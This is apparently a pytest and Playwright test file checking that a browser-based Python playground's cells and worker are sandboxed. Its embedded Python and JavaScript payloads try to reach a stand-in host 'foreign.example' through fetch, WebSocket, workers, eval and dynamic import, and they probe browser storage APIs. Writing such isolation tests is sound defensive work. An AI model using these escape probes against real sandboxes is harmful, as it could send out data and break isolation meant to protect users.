"""What a reader's Python reaches: nothing but the page that asks it. Tried from a cell, and, should
a name be left there by mistake, from the bare worker that stands around it."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.site.conftest import VisitMaker
from tests.site.playground import BOOT_MS
from tests.site.servers import FileServer
from tests.site.visits import Visit

LESSON = "lessons/l2/"
# Ways out by name; what is still there is taken and used.
CELL = """
import js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

found = {}
def tried(name, act):
    try:
        found[name] = f"GOT {act()}"
    except BaseException as error:
        found[name] = f"{type(error).__name__}"

here = "HERE"
def request(where):
    asked = js.XMLHttpRequest.new()
    asked.open("GET", where, False)
    asked.send()
    return asked.status

for where in (here, "http://foreign.example/"):
    tried(f"XMLHttpRequest {where}", lambda: request(where + "leak-xhr"))
    tried(f"WebSocket {where}", lambda: js.WebSocket.new(where.replace("http", "ws") + "leak-ws"))
    tried(f"EventSource {where}", lambda: js.EventSource.new(where + "leak-events"))
    tried(f"Worker {where}", lambda: js.Worker.new(where + "leak-worker"))
    tried(f"importScripts {where}", lambda: js.importScripts(where + "leak-script"))
    tried(f"FontFace {where}", lambda: js.FontFace.new("x", f"url({where}leak-font)").load())
    tried(f"WebTransport {where}", lambda: js.WebTransport.new(where + "leak-transport"))
    tried(f"urlopen {where}", lambda: __import__("urllib.request").request.urlopen(where + "leak"))
    js.fetch(where + "leak-fetch").catch(create_proxy(lambda error: None))
for name in ("caches", "indexedDB", "BroadcastChannel", "SharedWorker", "postMessage", "close",
             "scheduler", "Notification", "OffscreenCanvas", "webkitRequestFileSystem"):
    tried(name, lambda: getattr(js, name))
for name in ("locks", "storage", "serviceWorker", "permissions", "usb", "gpu", "connection"):
    tried(f"navigator.{name}", lambda: getattr(js.navigator, name))
tried("a worker of its own", lambda: js.Worker.new("data:text/javascript,1"))
script = f"import('{here}leak-import'); 1"
tried("eval", lambda: js.eval(script))
tried("run_js", lambda: run_js(script))
tried("Function", lambda: js.Function.new(script)())
tried("constructor", lambda: js.setTimeout.constructor.new(script)())
js.setTimeout(script, 0)
[f"{name}: {answer}" for name, answer in found.items() if answer.startswith("GOT")]
"""
# The same from JavaScript in the worker as the page starts it, before anything is taken away.
BARE = """
(async () => {
    const found = {origin: self.origin};
    const tried = async (name, act) => {
        try { await act(); found[name] = "GOT"; } catch (error) { found[name] = String(error); }
    };
    const once = (target) => new Promise((resolve, reject) => {
        target.onopen = target.onsuccess = target.onmessage = () => resolve();
        target.onerror = () => reject(new Error("refused"));
    });
    const foreign = "http://foreign.example/leak-bare";
    await tried("caches", () => caches.open("x"));
    await tried("indexedDB", async () => once(indexedDB.open("x")));
    await tried("files", () => navigator.storage.getDirectory());
    await tried("locks", () => navigator.locks.query());
    await tried("fetch", () => fetch(foreign, {mode: "no-cors"}));
    await tried("WebSocket", () => once(new WebSocket(foreign.replace("http", "ws"))));
    await tried("EventSource", () => once(new EventSource(foreign)));
    await tried("import", () => import(foreign));
    await tried("a blob worker", () => once(new Worker(
        URL.createObjectURL(new Blob(["postMessage(1)"])), {type: "module"})));
    await tried("the site's worker", async () => once(new Worker("HEREplayground/worker.js")));
    await tried("eval", () => (0, eval)("1"));
    postMessage({failed: {name: "BootError", message: JSON.stringify(found), stage: "running"}});
})();
//whole
"""


@pytest.fixture(scope="module")
def host(dist: Path) -> Iterator[FileServer]:
    """The site where a sandboxed frame may load it, too; it remembers what it does not have."""
    server = FileServer(dist, {"Access-Control-Allow-Origin": "*"})
    yield server
    server.close()


@pytest.fixture(scope="module")
def confined(start_visit: VisitMaker) -> Iterator[Visit]:
    with start_visit("confined") as visit:
        yield visit


def run_cell(where: Any, code: str) -> str:
    cell = where.locator("[data-cell]").first
    cell.locator("textarea").fill(code)
    cell.get_by_role("button", name="Run", exact=True).click()
    expect(cell).not_to_have_attribute("aria-busy", "true", timeout=BOOT_MS)
    answer = cell.locator(".output .value, .output .error")
    expect(answer).to_be_visible()
    return str(answer.inner_text())


@pytest.mark.parametrize("sandboxed", [False, True])
def test_a_cell_reaches_nothing(host: FileServer, confined: Visit, sandboxed: bool) -> None:
    page: Page = confined.page
    where: Any = page
    if sandboxed:
        page.goto(host.address + "embed-demo/")
        page.locator("body > main > iframe").scroll_into_view_if_needed()
        where = page.frame_locator("body > main > iframe")
    else:
        page.goto(host.address + LESSON)
    cell = where.locator("[data-cell]").first
    cell.locator(".output").evaluate("(one) => one.replaceChildren()")
    assert run_cell(where, CELL.replace("HERE", host.address)) == "[]"
    # And what it tried behind the page's back has not arrived by the time that this has.
    assert run_cell(where, "import js\njs.navigator.userAgent, 6 * 7").startswith("(")
    assert [one for one in host.missing if "leak" in one] == []
    assert [one for one in confined.foreign_requests() if "foreign" in one] == []


def test_neither_does_the_bare_worker(host: FileServer, confined: Visit) -> None:
    page = confined.page

    def bare(route: Route) -> None:
        route.fulfill(content_type="text/javascript", body=BARE.replace("HERE", host.address))

    page.route("**/playground/python.js*", bare)
    page.goto(host.address + LESSON)
    cell = page.locator("[data-cell]").first
    cell.get_by_role("button", name="Run", exact=True).click()
    expect(cell.locator(".error")).to_be_visible(timeout=BOOT_MS)
    told = cell.locator(".error").inner_text()
    assert '"origin":"null"' in told
    assert "GOT" not in told
    assert [one for one in host.missing if "leak" in one] == []
    assert [one for one in confined.foreign_requests() if "foreign" in one] == []
    page.unroute("**/playground/python.js*")
